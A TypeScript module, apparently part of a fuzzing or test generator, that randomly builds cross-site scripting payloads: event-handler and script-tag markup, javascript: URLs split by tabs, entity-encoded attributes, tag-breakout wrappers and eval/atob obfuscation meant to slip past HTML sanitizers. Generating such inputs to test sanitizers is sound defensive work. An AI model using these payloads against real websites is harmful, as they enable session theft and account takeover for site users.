import type { Random } from '../random.ts';
import { mixedCase } from './encode.ts';

/** Markup that runs `action` (a JavaScript expression valid in any frame) when a browser shows it. */
export function activeMarkup(action: string, random: Random): string {
  const made = random.pick(SHAPES)(hiddenScript(action, random), random);
  return random.pick(WRAPPERS)(made);
}

const WRAPPERS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => inner,
  (inner) => `nice picture ${inner} isn't it`,
  (inner) => `<b><i>${inner}</i></b>`,
  (inner) => `"><p>${inner}`,
  (inner) => `<!-->${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
];

type Shape = (script: string, random: Random) => string;

const space = (random: Random): string => random.pick([' ', ' ', '/', '\n', '\t', '\f', '/ ']);

/** An attribute's value with whatever quotes; characters that would end it, and some others, as references. */
function attribute(name: string, value: string, random: Random): string {
  const quote = random.pick(['"', "'", '']);
  const share = random.pick([0, 0, 0.2, 1]);
  const written = value.replace(/[^]/g, (character) => {
    const mustHide = character === '&' || character === quote || (quote === '' && /[\s"'`=<>]/.test(character));
    if (!mustHide && !random.chance(share)) return character;
    const code = character.charCodeAt(0);
    return random.pick([`&#${code};`, `&#x${code.toString(16)};`, `&#0${code};`]);
  });
  return `${mixedCase(name, random)}${random.pick(['=', ' =', '= '])}${quote}${written}${quote}`;
}

const tag = (name: string, random: Random): string => `<${mixedCase(name, random)}`;

const SHAPES: readonly Shape[] = [
  (script, random) =>
    `${tag('script', random)}${random.pick(['', ' ', '\n', ' x'])}>${script}</${mixedCase('script', random)}${random.pick(['', ' ', '\n'])}>`,
  (script, random) => `${tag('img', random)}${space(random)}src=x ${attribute('onerror', script, random)} >`,
  (script, random) => `${tag('img', random)}${space(random)}${attribute('onerror', script, random)} src=/x.png >`,
  (script, random) => `${tag('svg', random)}${space(random)}${attribute('onload', script, random)} >`,
  (script, random) => `${tag('details', random)}${space(random)}open ${attribute('ontoggle', script, random)} >`,
  (script, random) =>
    `${tag('video', random)}>${tag('source', random)}${space(random)}${attribute('onerror', script, random)} ></video>`,
  (script, random) =>
    `${tag('iframe', random)}${space(random)}${attribute('srcdoc', `<script>${script}</script>`, random)} ></iframe>`,
  (script, random) =>
    `${tag('iframe', random)}${space(random)}${attribute('src', `${scheme(random)}${script}`, random)} ></iframe>`,
  (script, random) => `${tag('body', random)}${space(random)}${attribute('onpageshow', script, random)} >`,
  (script, random) =>
    `<style>@keyframes k{}</style>${tag('p', random)} style="animation:k 1s"${space(random)}${attribute('onanimationstart', script, random)} >`,
  (script, random) =>
    `${tag('math', random)}><mtext>${tag('img', random)} src=x ${attribute('onerror', script, random)} ></mtext></math>`,
];

/** URL parsers drop tabs and line ends. */
function scheme(random: Random): string {
  const word = mixedCase('javascript', random);
  const at = 1 + random.below(word.length - 1);
  return `${word.slice(0, at)}${random.pick(['', '', '\t', '\n'])}${word.slice(at)}:`;
}

function hiddenScript(action: string, random: Random): string {
  const codes = [...Buffer.from(action)].join(',');
  return random.pick([
    action,
    action,
    `eval(atob('${Buffer.from(action).toString('base64')}'))`,
    `eval(String.fromCharCode(${codes}))`,
    `[].constructor.constructor(atob('${Buffer.from(action).toString('base64')}'))()`,
    `\\u0065val(String.fromCharCode(${codes}))`,
    `top['ev'+'al'](String.fromCharCode(${codes}))`,
    `setTimeout(()=>{${action}})`,
  ]);
}
